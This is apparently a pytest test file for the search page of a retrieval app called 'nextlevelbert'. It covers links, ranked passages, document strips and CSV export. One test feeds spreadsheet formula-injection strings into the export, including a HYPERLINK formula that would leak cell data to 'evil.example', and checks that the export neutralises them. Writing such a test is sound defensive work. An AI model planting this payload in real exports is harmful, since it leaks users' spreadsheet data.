"""What the page of `nextlevelbert app` shows, without a server and a browser."""

import csv
import html
import io
import re
from types import SimpleNamespace
from typing import Any
from urllib.parse import parse_qs, urlsplit

import numpy as np
import pytest
import torch

from nextlevelbert import NextLevelBertModel
from nextlevelbert.search import Reranker
from nextlevelbert.search.encoders.torch import open_model
from nextlevelbert.search.library import Library
from nextlevelbert.search.page.page import Address, Page
from nextlevelbert.search.reading import ReadingOptions
from nextlevelbert.search.store import open_store

from ..conftest import KITCHEN, write_books

QUESTION = "Where does the captain hunt the whale?"


@pytest.fixture(scope="module")
def library(toy_encoder_path, tmp_path_factory) -> Library:
    folder = tmp_path_factory.mktemp("page")
    books = write_books(folder)
    torch.manual_seed(0)
    model = NextLevelBertModel.from_chunk_encoder(toy_encoder_path, chunk_size=16)
    reading = ReadingOptions(cache_dir=folder / "cache")
    return Library(open_store(str(books), model, reading))


@pytest.fixture
def asked(library) -> Page:
    return Page(library, Address(q=QUESTION))


def column(name: str, rows: list[dict[str, Any]]) -> list[Any]:
    """The values of a name in all rows."""
    return [row[name] for row in rows]


def opened(library: Library, cells: list[dict[str, Any]]) -> list[int]:
    """The passages that links open."""
    return [Page(library, target(cell["link"])).opened for cell in cells]


def target(link: str) -> Address:
    """The state that a link of the page leads to."""
    query = parse_qs(urlsplit(link).query)
    return Address.of({name: values[0] for name, values in query.items()})


def test_an_address_is_read_as_it_is_written():
    address = Address(q="whale & ship?", document="a#b c.txt", passage="3", within="ü.txt")

    assert target(address.link(document="a#b c.txt", passage="3")) == address
    assert target(address.link(rows="60")) == Address(q="whale & ship?", within="ü.txt", rows="60")
    assert Address.of({"q": "  ", "x": "1"}) == Address()


@pytest.mark.parametrize("number", ["-1", "x", "²", "9" * 12, "99"])
def test_a_wrong_number_in_an_address_opens_the_page(library, number):
    address = Address(q="whale", document="sea.txt", passage=number, rows=number)

    page = Page(library, address)

    assert page.reading()["name"] == "sea.txt"
    assert 1 <= len(page.rows) <= library.starts[-1]


def test_a_document_that_is_gone_is_named(library):
    with pytest.raises(ValueError, match=r"holds no document 'gone\.txt'"):
        Page(library, Address(document="gone.txt"))
    with pytest.raises(ValueError, match=r"holds no document 'gone\.txt'"):
        Page(library, Address(q="whale", within="gone.txt"))


def test_a_second_model_ranks_the_first_passages_again(library, toy_encoder_path):
    rerank = Reranker(open_model(toy_encoder_path), passages=2)

    page = Page(library, Address(q=QUESTION), rerank)

    assert np.isfinite(page.answer.rerank_cosine).sum() == 2
    assert Page(library, Address(q=QUESTION)).answer.rerank_cosine is None


def test_the_nearest_passages_are_links_with_their_places(library, asked):
    rows = asked.rows

    assert column("id", rows) == asked.answer.passages
    assert rows[0]["name"] == "sea.txt"
    assert rows[0]["position"].startswith("at ")
    assert "<b>whale</b>" in rows[0]["text"]
    assert opened(library, rows) == column("id", rows)
    assert asked.open_row == asked.opened == rows[0]["id"]


def test_a_chosen_passage_is_open_in_the_same_list(library, asked):
    page = Page(library, target(asked.rows[2]["link"]))

    assert column("id", page.rows) == column("id", asked.rows)
    assert page.open_row == page.rows[2]["id"]


def test_the_passages_of_one_document(library):
    page = Page(library, Address(q=QUESTION, within="kitchen.txt"))

    first, stop = library.starts[1:3]
    assert sorted(page.found) == list(range(first, stop))
    scores = page.answer.score[page.found]
    assert (np.diff(scores) <= 0).all()
    assert page.opened == page.found[0]


def test_more_rows(library, monkeypatch):
    monkeypatch.setattr("nextlevelbert.search.page.page._ROWS", 2)

    page = Page(library, Address(q=QUESTION))
    more = Page(library, Address(q=QUESTION, rows="4"))

    assert len(page.rows) == 2
    assert column("id", more.rows[:2]) == column("id", page.rows)
    assert len(more.rows) == 4


def test_a_strip_shows_the_highest_score_of_each_cell(library, asked):
    best = asked.answer.passages[0]
    document = library.document_of(best)

    cells = asked.strip(document)

    passages = np.arange(*library.starts[document : document + 2])
    assert len(cells) == len(passages)  # each cell is one passage
    assert cells[best - passages[0]]["share"] == "1.00"
    order = np.argsort(asked.answer.score[passages])
    shares = np.array(column("share", cells), np.float64)
    assert (np.diff(shares[order]) >= 0).all()
    assert opened(library, cells) == passages.tolist()


def test_a_strip_of_many_passages_links_to_the_best_of_each_cell(library, monkeypatch):
    monkeypatch.setattr("nextlevelbert.search.page.page._MOST_CELLS", 2)
    page = Page(library, Address(q=QUESTION))

    cells = page.strip(2)

    halves = np.array_split(np.arange(*library.starts[2:4]), 2)
    best = [int(half[page.answer.score[half].argmax()]) for half in halves]
    assert opened(library, cells) == best


def test_before_a_question_the_documents_are_listed_with_their_sizes(library):
    page = Page(library, Address())

    assert column("name", page.rows) == library.names
    for row, document in zip(page.rows, range(3), strict=True):
        size = len(library.document(document).text.rstrip())
        assert row["position"] == f"{size:,} characters"
    assert opened(library, page.rows) == library.starts[:-1].tolist()
    assert page.open_row == page.opened == 0


def test_a_document_is_read_from_its_beginning(library):
    page = Page(library, Address(document="kitchen.txt"))

    reading = page.reading()

    assert html.unescape(reading["text"]).startswith(KITCHEN[:100])
    assert "<mark>" not in reading["text"]


def test_before_a_question_a_strip_leads_to_all_parts_of_a_document(library):
    page = Page(library, Address(document="kitchen.txt"))

    cells = page.strip(1)

    passages = np.arange(*library.starts[1:3]).tolist()
    assert opened(library, cells) == passages
    assert set(column("share", cells)) == {"0.00"}
    assert Page(library, target(cells[-1]["link"])).open_row == library.starts[1]


def test_the_text_shows_a_passage_in_its_context(library):
    page = Page(library, Address(q=QUESTION, document="kitchen.txt", passage="3"))
    passage = library.passage(library.starts[1] + 3)

    reading = page.reading()

    assert reading["position"] == f"{passage.position}, {passage.characters}"
    text = reading["text"]
    assert html.unescape(re.search("(?s)<mark>(.*)</mark>", text)[1]) == passage.text
    assert html.unescape(re.sub("</?mark>", "", text)) == KITCHEN
    assert reading["has_end"]


def test_a_long_passage_in_a_long_line_is_shown_in_part(library, monkeypatch):
    """A line without an end would take the browser minutes."""
    text = "word " * 50_000
    document = SimpleNamespace(text=text, page_starts=None)
    monkeypatch.setattr(library, "document", lambda index: document)
    passage = library.passage(0)._replace(start=10_002, end=200_000)
    monkeypatch.setattr(library, "passage", lambda index: passage)

    reading = Page(library, Address(q="whale", document="sea.txt")).reading()

    assert 20_000 < len(reading["text"]) < 25_000
    assert reading["text"].startswith("word ")
    assert not reading["has_end"]


def test_the_table_of_passages_is_read_by_a_library(library, asked):
    rows = list(csv.DictReader(io.StringIO(asked.table())))

    assert len(rows) == len(asked.answer.passages)
    assert rows[0]["question"] == QUESTION
    assert rows[0]["document"] == "sea.txt"
    assert rows[0]["passage"] == library.passage(asked.answer.passages[0]).text
    one = Page(library, Address(q=QUESTION, within="kitchen.txt"))
    assert {row["document"] for row in csv.DictReader(io.StringIO(one.table()))} == {"kitchen.txt"}


@pytest.mark.parametrize("first", [*"=+-@\t＝＋－＠", " =", "\n-"])
def test_no_cell_of_the_table_is_computed(library, monkeypatch, first):
    """Spreadsheets compute a cell that begins so, and texts, names and questions are strangers'."""
    formula = f'{first}HYPERLINK("http://evil.example/?"&A1, "whale")'
    page = Page(library, Address(q=f"{formula} whale"))
    page.score = -np.abs(page.score)
    monkeypatch.setattr(library, "names", [formula] * 3)
    passage = library.passage(0)._replace(text=formula)
    monkeypatch.setattr(library, "passage", lambda index: passage)

    rows = list(csv.reader(io.StringIO(page.table(), newline="")))

    for question, document, position, characters, score, text in rows[1:]:
        assert question == f"'{formula} whale"
        assert document == text == f"'{formula}"
        assert position.startswith("at ")
        assert characters.startswith("characters ")
        assert float(score) <= 0  # stays a number
